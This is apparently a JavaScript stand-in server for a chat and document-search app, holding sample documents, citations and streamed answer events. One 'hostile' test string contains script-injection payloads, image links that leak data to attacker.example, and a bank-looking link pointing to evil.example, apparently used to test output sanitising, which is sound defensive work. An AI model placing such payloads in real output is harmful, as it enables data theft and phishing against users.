/** What the stand-in server says: its documents, and the events of its answers. */

const document = (number, name, title, rest) => ({
  id: `0000000000000000000000000${number}`,
  name,
  title,
  media_type: "text/markdown",
  size_bytes: 8200,
  state: "ready",
  reason: "",
  pages: 0,
  passages: 3,
  embedded: 3,
  ...rest,
});

export const documents = [
  document(1, "what.md", "What Hubbub is", {}),
  document(2, "questions.md", "Asking about your documents", {}),
  document(3, "waiting.pdf", "When many ask at once", {
    media_type: "application/pdf",
    pages: 4,
    size_bytes: 1_340_000,
  }),
  document(4, "scan-of-a-napkin.tiff", "", {
    state: "failed",
    reason: "Pictures without text can’t be read. Save it as PDF with text.",
    passages: 0,
    embedded: 0,
  }),
];

const texts = [
  [
    1,
    "What Hubbub is",
    null,
    "Hubbub is chat and search for many people at once. You talk with a language model, ask questions over your own documents, and get answers with sources that can be checked.",
  ],
  [
    1,
    "What Hubbub is › One small machine",
    null,
    "One small machine serves thousands of open answers; nobody waits because somebody else is being answered. When one machine is not enough, more of the same processes share one database.",
  ],
  [
    1,
    "What Hubbub is › Three ways to use it",
    null,
    "As a server with its web app; as a library inside your own application; and as an API that the usual clients understand.",
  ],
  [
    2,
    "Adding documents",
    null,
    "Drop files anywhere on the page, or press the plus beside the question. PDF, Word, PowerPoint, Excel, HTML, Markdown and plain text can be read. Their words can be found within seconds;\ntheir meanings a little later.",
  ],
  [
    2,
    "Adding documents › Collections",
    null,
    "Documents live in collections. A collection is searched as one, and you choose which ones are asked beside the question.",
  ],
  [
    2,
    "Checking an answer",
    null,
    "Each number in an answer leads to the passage it rests on. Press it: the document opens beside the chat, and the words that are meant are marked.",
  ],
  [
    3,
    "Waiting",
    1,
    "When many people ask at once, questions wait in line, and each sees its place. The line is fair between people: ten open tabs don’t get ahead of a colleague with one.",
  ],
  [
    3,
    "Leaving",
    2,
    "The connection does not own the answer. You may close the page, change the device or lose the network: the answer is finished and kept, and read on from where you were.",
  ],
  [3, "Stopping", 4, "Stopping is a request of its own. What was said so far stands."],
];
export const passages = texts.map(([owner, heading, page, text], index) => ({
  id: `p${index}`,
  document_id: documents[owner - 1].id,
  number: index,
  text,
  page,
  heading,
}));

const hitOf = (passage, index) => {
  const { name, title } = documents.find(({ id }) => id === passage.document_id);
  const { id: passage_id, document_id, text, page, heading } = passage;
  return { passage_id, document_id, collection_id: "c", name, title, text, page, heading, score: 0.9 - index / 10 };
};
const citationOf = (marker, { passage_id, document_id, name, title, page, heading }, quote) => ({
  type: "cited",
  citation: { marker, passage_id, document_id, name, title, page, heading, quote },
});

function* typed(text, milliseconds = 28) {
  for (const piece of text.match(/\S+\s*|\s+/g) ?? []) yield [milliseconds, { type: "text", text: piece }];
}

const grounded = `Hubbub is **chat and search for many people at once** [1]. In short:

- You *talk* with a language model, as in any chat.
- You *ask about your own documents*; answers say where each statement comes from [2].
- When many ask at once, questions wait in a fair line, and you see your place in it [3].

You can close the page while an answer is being written: it is finished and kept [4]. A marker that nothing stands behind, like [9], stays plain text.`;

const code = `Here is a small, complete example.

\`\`\`python
import asyncio
from collections.abc import AsyncIterator


async def pieces(text: str) -> AsyncIterator[str]:
    """Give a text word by word."""
    for word in text.split():  # one at a time
        yield word + " "
        await asyncio.sleep(0.05)
\`\`\`

And what it costs, measured:

| Step | Time (ms) | Share |
|:-----|----------:|------:|
| Search | 12 | 4 % |
| First token | 240 | 83 % |
| Everything else | 37 | 13 % |

### Two things to know

1. \`asyncio.sleep\` hands the loop to others.
2. A generator that never awaits keeps it, see [the documentation](https://docs.python.org/3/library/asyncio.html).

> Blocking calls belong in a pool of their own.
`;

const hostile = `<img src=x onerror="document.title='pwned'"><script>document.title='pwned'</script>

![a picture](https://attacker.example/leak?data=secret) and ![ref][r] and [https://bank.example](https://evil.example/login)

[click](javascript:document.title='pwned') <a href="javascript:alert(1)">raw</a> [data](data:text/html,<script>1</script>)

[r]: https://attacker.example/by-reference
`;

/** The events of an answer, each with the milliseconds that pass before it. */
export function* eventsFor(question, model, hasDocuments, found) {
  const asked = question.toLowerCase();
  if (asked.includes("queue")) {
    for (const place of [3, 2, 1])
      yield [place === 3 ? 50 : 1200, { type: "queued", place, estimate_seconds: place * 2 }];
  }
  const isSpecial = /code|hostile|long/.test(asked);
  const way = hasDocuments && !isSpecial ? (model.can_ground ? "grounded" : "quotes") : "chat";
  yield [150, { type: "started", model: model.name, way }];
  if (way === "chat") {
    yield [500, { type: "text", text: "" }];
    const text = asked.includes("hostile")
      ? hostile
      : asked.includes("code")
        ? code
        : asked.includes("long")
          ? code.repeat(6)
          : `Certainly. You asked: “${question}”. I answer from a script, word by word, so that there is something to look at.`;
    yield* typed(text, asked.includes("slow") ? 250 : 22);
  } else {
    const hits = [0, 5, 6, 7, 3, 1]
      .map((number, index) => hitOf(passages[number], index))
      .slice(0, Math.max(found.length, 4));
    const query = question.replace(/[?.!]/g, "").toLowerCase();
    if (asked.includes("thorough")) {
      yield [350, { type: "searched", query, hits: hits.slice(0, 2), is_step: true }];
      yield [900, { type: "searched", query: "fair line of waiting questions", hits: hits.slice(1), is_step: true }];
      yield [900, { type: "searched", query: "limits of a person", hits: [], is_step: true }];
    }
    yield [350, { type: "searched", query, hits }];
    const quotes = hits.slice(0, 4).map(({ text }) => text.split(/(?<=[.:])\s/)[0]);
    if (way === "grounded") {
      for (let i = 0; i < 4; i++) yield [20, citationOf(i + 1, hits[i], quotes[i])];
      yield* typed(grounded);
    } else {
      for (let i = 0; i < 3; i++) {
        yield [60, citationOf(i + 1, hits[i], quotes[i])];
        yield* typed(`> ${quotes[i]} [${i + 1}]\n\n`, 12);
      }
    }
  }
  if (asked.includes("fail")) {
    yield [
      200,
      { type: "failed", code: "model_silent", message: "The model fell silent for 30 seconds.", is_retryable: true },
    ];
    return;
  }
  if (way !== "chat") {
    yield [
      80,
      {
        type: "follow_ups",
        questions: ["Which files can be read?", "Who can see my documents?", "What if the server restarts?"],
      },
    ];
  }
  yield [10, { type: "usage", prompt_tokens: 812, completion_tokens: 164 }];
  yield [10, { type: "done", finish_reason: "stop" }];
}

/** A drawing in the place of a PDF's page. */
export function pagePicture({ title }, page) {
  const lines = Array.from(
    { length: 24 },
    (_, index) =>
      `<rect x="60" y="${150 + index * 26}" width="${index % 6 === 5 ? 240 : 480}" height="9" fill="#bbb"/>`,
  );
  return `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 600 848"><rect width="600" height="848" fill="#fff"/><text x="60" y="100" font-family="serif" font-size="26">${title}, page ${page}</text><rect x="56" y="196" width="488" height="44" fill="#ffe69a"/>${lines.join("")}</svg>`;
}
